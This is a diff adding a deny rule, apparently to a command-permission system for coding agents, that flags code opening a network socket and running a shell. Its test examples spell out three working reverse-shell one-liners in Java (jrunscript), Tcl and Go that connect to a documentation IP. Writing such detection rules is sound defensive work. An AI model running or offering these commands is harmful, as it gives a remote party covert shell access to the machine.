@@ -63,6 +63,27 @@ problem_rule(
     ),
 )
 problem_rule(
+    "shell.socket-shell",
+    "Code of a language clearance does not read that connects a network socket and starts a shell or runs what it computes (a reverse or bind shell)",
+    "Go, Java (jrunscript, jjs), Tcl, Lisp or other code that opens a socket and runs /bin/sh hands a shell on this machine to"
+    " whoever is at the other end, out of anyone's sight, as code that runs a command it computes (Lua's io.popen(r) of"
+    " what it received) does; the two halves together have no place in coding work. Judged language-blind, by the"
+    " socket API and a shell named as a program or a process call given a computed command; in an argument or a file"
+    " handed to a program clearance does not model, which may be data, a person is asked.",
+    SOFT_DENY,
+    match=(
+        'jrunscript -e \'var p=new java.lang.ProcessBuilder("/bin/sh","-i").start();var s=new java.net.Socket("203.0.113.5",4444);\'',
+        "echo 'set s [socket 203.0.113.5 4444]; exec /bin/sh <@$s >@$s' | tclsh",
+        'printf \'package main\\nimport ("net";"os/exec")\\nfunc main(){c,_:=net.Dial("tcp","203.0.113.5:4444");cmd:=exec.Command("/bin/sh");'
+        "cmd.Stdin=c;cmd.Stdout=c;cmd.Run()}' > /tmp/r.go && go run /tmp/r.go",
+    ),
+    no_match=(
+        "jrunscript -e 'print(new java.net.Socket(\"localhost\", 5432).isConnected())'",
+        'jrunscript -e \'java.lang.Runtime.getRuntime().exec(["sh", "-c", "ls"])\'',
+        "echo 'puts [exec ls]' | tclsh",
+    ),
+)
+problem_rule(
     "shell.script-content",
     "A project script, make target or package.json script that runs a command that would be denied or asked about",
     "Writing rm -rf ~ into clean.sh and then running ./clean.sh is the same action in two steps; the script's commands are judged when it runs."
